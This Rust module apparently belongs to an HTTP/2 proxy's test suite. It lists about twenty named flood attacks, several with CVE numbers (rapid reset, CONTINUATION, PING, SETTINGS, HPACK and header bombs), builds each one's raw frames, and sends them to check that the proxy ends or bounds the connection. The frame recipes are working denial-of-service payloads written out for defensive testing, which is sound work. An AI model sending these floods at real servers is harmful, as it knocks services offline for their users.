//! HTTP/2 floods, each known by a name or a number somebody gave it, and how the proxy ends them.

use super::doors::Door;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, Said, WINDOW_UPDATE,
    block, field, frame, listen, opening, text,
};
use super::ground::{HOST, Kind};
use anyhow::Result;
use bytes::Bytes;
use http::Request;
use http_body_util::{BodyExt, Empty};
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use std::time::{Duration, Instant};
use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;
use tokio::time::timeout;

/// What an attack must come to.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Wanted {
    /// The proxy ends the connection.
    Ended,
    /// Each request is refused or waits within limits; the connection may stay.
    Bounded,
    /// The same, of requests that nobody can tell from honest ones before they were served.
    Served,
}

impl Wanted {
    /// What it is to everybody else.
    pub fn kind(self) -> Kind {
        match self {
            Self::Ended | Self::Bounded => Kind::Attack,
            Self::Served => Kind::Served,
        }
    }
}

/// One kind.
pub struct Flood {
    /// Name.
    pub name: &'static str,
    /// What it must come to.
    pub wanted: Wanted,
    settings: &'static [(u16, u32)],
    first: fn() -> Vec<u8>,
    /// Batch number `i`, over and over.
    again: fn(u32) -> Vec<u8>,
}

/// Frames of one write.
const BATCH: u32 = 64;

fn nothing() -> Vec<u8> {
    Vec::new()
}

fn many(one: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..BATCH).flat_map(one).collect()
}

/// Number of the `n`-th stream of a client.
fn stream(batch: u32, n: u32) -> u32 {
    2 * (batch * BATCH + n) + 1
}

fn get(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block(2, HOST))
}

/// A request whose body is to come.
fn post(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &block(3, HOST))
}

const SETTING_WINDOW: u16 = 4;

/// All of them.
pub const FLOODS: &[Flood] = &[
    Flood {
        name: "rapid reset (CVE-2023-44487)",
        wanted: Wanted::Ended,
        settings: &[],
        first: nothing,
        again: |i| many(|n| [get(stream(i, n)), frame(RST_STREAM, 0, stream(i, n), &[0, 0, 0, 8])].concat()),
    },
    Flood {
        name: "made you reset, by a zero window update (CVE-2025-8671)",
        wanted: Wanted::Ended,
        settings: &[],
        first: nothing,
        again: |i| many(|n| [post(stream(i, n)), frame(WINDOW_UPDATE, 0, stream(i, n), &[0; 4])].concat()),
    },
    Flood {
        name: "made you reset, by a body longer than announced",
        wanted: Wanted::Ended,
        settings: &[],
        first: nothing,
        again: |i| {
            many(|n| {
                let mut head = block(3, HOST);
                field(&mut head, b"content-length", b"0");
                [frame(HEADERS, END_HEADERS, stream(i, n), &head), frame(DATA, 0, stream(i, n), b"x")].concat()
            })
        },
    },
    Flood {
        name: "SETTINGS (CVE-2019-9515)",
        wanted: Wanted::Ended,
        settings: &[],
        first: nothing,
        again: |_| many(|_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
    },
    Flood {
        name: "PING (CVE-2019-9512)",
        wanted: Wanted::Ended,
        settings: &[],
        first: nothing,
        again: |_| many(|_| frame(PING, 0, 0, &[7; 8])),
    },
    Flood {
        name: "CONTINUATION (CVE-2024-27316)",
        wanted: Wanted::Ended,
        settings: &[],
        first: || frame(HEADERS, END_STREAM, 1, &block(2, HOST)),
        again: |_| many(|_| frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y'])),
    },
    Flood {
        name: "empty DATA (CVE-2019-9518)",
        wanted: Wanted::Ended,
        settings: &[],
        first: || post(1),
        again: |_| many(|_| frame(DATA, 0, 1, b"")),
    },
    Flood {
        name: "empty HEADERS and CONTINUATION",
        wanted: Wanted::Ended,
        settings: &[],
        first: || frame(HEADERS, END_STREAM, 1, b""),
        again: |_| many(|_| frame(CONTINUATION, 0, 1, b"")),
    },
    Flood {
        name: "small WINDOW_UPDATEs",
        wanted: Wanted::Ended,
        settings: &[],
        first: nothing,
        again: |_| many(|_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
    },
    Flood {
        name: "a zero WINDOW_UPDATE",
        wanted: Wanted::Ended,
        settings: &[],
        first: nothing,
        again: |_| frame(WINDOW_UPDATE, 0, 0, &[0; 4]),
    },
    Flood {
        name: "PRIORITY (CVE-2019-9513)",
        wanted: Wanted::Ended,
        settings: &[],
        first: nothing,
        again: |i| many(|n| frame(PRIORITY, 0, stream(i, n), &[0, 0, 0, 0, n as u8])),
    },
    Flood {
        name: "frames nobody knows",
        wanted: Wanted::Ended,
        settings: &[],
        first: nothing,
        again: |_| many(|_| frame(0xfa, 0, 0, &[0; 64])),
    },
    Flood {
        name: "header bomb: 1 MiB of fields in each request",
        wanted: Wanted::Bounded,
        settings: &[],
        first: nothing,
        again: |i| {
            let mut head = block(2, HOST);
            for n in 0..250 {
                field(&mut head, format!("x-{n}").as_bytes(), &[b'y'; 4_096]);
            }
            let mut pieces = head.chunks(16_384);
            let mut bytes = frame(HEADERS, END_STREAM, 2 * i + 1, pieces.next().unwrap_or_default());
            for piece in pieces {
                bytes.extend(frame(CONTINUATION, 0, 2 * i + 1, piece));
            }
            bytes
        },
    },
    Flood {
        name: "HPACK bomb: one field of 4 KiB, named 4,000 times (CVE-2026-47774)",
        wanted: Wanted::Bounded,
        settings: &[(SETTING_WINDOW, 0)],
        first: || {
            let mut head = block(2, HOST);
            head.push(0x40);
            text(&mut head, b"x");
            text(&mut head, &[b'y'; 4_000]);
            frame(HEADERS, END_STREAM | END_HEADERS, 1, &head)
        },
        again: |i| {
            let head = [block(2, HOST), vec![0xbe; 4_000]].concat();
            frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 3, &head)
        },
    },
    Flood {
        name: "cookie bomb: 1,000 crumbs in each request",
        wanted: Wanted::Bounded,
        settings: &[],
        first: nothing,
        again: |i| {
            let mut head = block(2, HOST);
            for _ in 0..1_000 {
                // Name 32 of the static table.
                head.extend([0x0f, 0x11]);
                text(&mut head, b"a=1");
            }
            frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, &head)
        },
    },
    Flood {
        name: "a stream number of the server",
        wanted: Wanted::Ended,
        settings: &[],
        first: nothing,
        again: |i| get(2 * i + 2),
    },
    Flood {
        name: "stream numbers that go down",
        wanted: Wanted::Ended,
        settings: &[],
        first: || get(9_001),
        again: |i| frame(HEADERS, END_HEADERS, 9_001_u32.saturating_sub(2 * i + 2), &block(3, HOST)),
    },
    Flood {
        name: "a frame of 16 MiB",
        wanted: Wanted::Ended,
        settings: &[],
        first: || post(1),
        again: |_| [&[0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1][..], &[0; 4_096]].concat(),
    },
    Flood {
        name: "a body that ignores its window",
        // Ended where it overruns the window; an app that reads as fast as this keeps the window open.
        wanted: Wanted::Bounded,
        settings: &[],
        first: || post(1),
        again: |_| many(|_| frame(DATA, 0, 1, &[0; 16_384])),
    },
    Flood {
        name: "requests that stay half open",
        wanted: Wanted::Served,
        settings: &[],
        first: nothing,
        again: |i| many(|n| post(stream(i, n))),
    },
    Flood {
        name: "answers that nobody reads",
        wanted: Wanted::Served,
        settings: &[(SETTING_WINDOW, 0)],
        first: nothing,
        again: |i| many(|n| get(stream(i, n))),
    },
];

/// How one connection of a flood went.
#[derive(Clone, Debug, Default)]
pub struct End {
    /// The proxy ended it, after this long.
    pub ended: Option<Duration>,
    /// What it said.
    pub said: Said,
    /// Bytes sent.
    pub sent: u64,
}

/// A flood that is refused bit by bit sends no faster than this, so that what is looked at is the proxy and not the
/// machine.
const PACE: Duration = Duration::from_millis(5);

/// Requests that an honest caller has open at a time, and how often it asks them.
const HONEST_OPEN: u32 = 200;
const HONEST_TIMES: u32 = 5;
/// All that it asks.
pub const HONEST: u32 = HONEST_OPEN * HONEST_TIMES;

/// One connection of somebody honest with much to ask, which reads every answer; how many were good.
pub async fn honest(door: Door) -> Result<u32> {
    let handshake = http2::handshake(TokioExecutor::new(), TokioIo::new(door.open().await?));
    let (sender, connection) = handshake.await?;
    let driver = tokio::spawn(connection);
    let mut all = JoinSet::new();
    for _ in 0..HONEST_OPEN {
        let mut sender = sender.clone();
        all.spawn(async move {
            let mut good = 0;
            for _ in 0..HONEST_TIMES {
                let request = Request::get(format!("http://{HOST}/")).body(Empty::<Bytes>::new())?;
                let answer = sender.send_request(request).await?;
                good += u32::from(answer.status().is_success());
                answer.into_body().collect().await?;
            }
            anyhow::Ok(good)
        });
    }
    let mut good = 0;
    while let Some(one) = all.join_next().await {
        good += one??;
    }
    driver.abort();
    Ok(good)
}

/// One connection, for at most `limit`.
pub async fn flood(door: &Door, flood: &Flood, limit: Duration) -> Result<End> {
    let io = door.open().await?;
    let (reader, mut writer) = tokio::io::split(io);
    let since = Instant::now();
    let mut end = End::default();
    let reading = listen(reader, &mut end.said);
    let mut sent = 0;
    let writing = async {
        let mut bytes = [opening(flood.settings), (flood.first)()].concat();
        for i in 0.. {
            bytes.extend((flood.again)(i));
            if writer.write_all(&bytes).await.is_err() || writer.flush().await.is_err() {
                break;
            }
            sent += bytes.len() as u64;
            bytes.clear();
            tokio::time::sleep(PACE).await;
        }
        // The other half sees the end.
        std::future::pending::<()>().await;
    };
    let over = timeout(limit, async {
        tokio::select! {
            () = reading => {}
            () = writing => {}
        }
    });
    if over.await.is_ok() {
        end.ended = Some(since.elapsed());
    }
    end.sent = sent;
    Ok(end)
}
